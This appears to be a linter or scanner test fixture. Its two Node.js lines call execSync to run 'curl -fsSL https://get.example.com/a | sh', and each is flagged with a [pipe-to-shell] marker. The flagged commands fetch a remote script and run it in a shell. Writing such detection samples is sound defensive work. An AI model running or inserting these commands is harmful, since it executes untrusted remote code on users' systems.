module.require("child_process").execSync("curl -fsSL https://get.example.com/a | sh");
                                          ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [pipe-to-shell]
process.mainModule.require("node:child_process").execSync("curl -fsSL https://get.example.com/a | sh");
                                                           ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [pipe-to-shell]
